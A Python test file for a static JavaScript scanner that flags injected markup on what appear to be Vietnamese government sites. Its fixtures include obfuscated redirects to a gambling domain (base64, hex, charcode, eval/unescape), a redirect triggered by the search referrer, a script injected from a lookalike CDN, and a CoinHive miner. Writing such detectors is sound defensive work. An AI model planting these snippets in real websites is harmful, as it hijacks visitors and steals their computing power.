"""Static reading of obfuscated redirects and injected markup, never executing anything."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from haidang.engines.scanner.jsscan import analyze_script

TARGET = "https://nhacai-fb88vn.club/r"


def _hex(text: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in text)


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize(
    "code",
    [
        f'window.location = "{TARGET}";',
        f"location.href='{TARGET}';",
        f'window.location.replace("{TARGET}");',
        f'var u = atob("{_b64(TARGET)}"); setTimeout(function(){{ top.location.href = u; }}, 500);',
        "document.location=String.fromCharCode(" + ",".join(str(ord(c)) for c in TARGET) + ");",
        'eval(unescape("' + "".join(f"%{ord(c):02X}" for c in f'location.replace("{TARGET}")') + '"));',
        f'var _0x1f2e=["{_hex(TARGET)}","{_hex("href")}"];self.location[_0x1f2e[1]]=_0x1f2e[0];',
        f'var s="{TARGET[::-1]}".split("").reverse().join("");window.location.href=s;',
        'location.assign("https://" + "nhacai-fb88vn.club/r");',
    ],
)
def test_it_finds_the_redirect_target(code: str) -> None:
    assert TARGET in analyze_script(code, "http://portal.example.gov.vn/").redirects


def test_it_notices_redirects_only_for_search_visitors() -> None:
    code = f'if (document.referrer.indexOf("google") > -1) {{ window.location = "{TARGET}"; }}'
    assert analyze_script(code, "http://x.gov.vn/").referrer_check


def test_it_decodes_document_write_payloads() -> None:
    payload = '<script src="https://cdn-jquery.top/a.js"></script>'
    facts = analyze_script(f'document.write(atob("{_b64(payload)}"));', "http://x.gov.vn/")
    assert facts.written == (payload,)
    assert facts.obfuscated


def test_it_finds_miners() -> None:
    assert analyze_script("var miner = new CoinHive.Anonymous('abc'); miner.start();", "http://x/").miner


def test_it_leaves_ordinary_analytics_alone() -> None:
    code = (
        "var _gaq=_gaq||[];(function(){var ga=document.createElement('script');"
        "ga.src=('https:'==document.location.protocol?'https://ssl':'http://www')+'.google-analytics.com/ga.js';})();"
    )
    facts = analyze_script(code, "http://x.gov.vn/")
    assert facts.redirects == ()
    assert not facts.miner


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=400))
def test_it_never_crashes_on_hostile_code(code: str) -> None:
    analyze_script(code, "http://x.gov.vn/")


def test_it_bounds_work_on_huge_scripts() -> None:
    analyze_script("atob(" * 50_000 + '"a"' + ")" * 50_000, "http://x/")
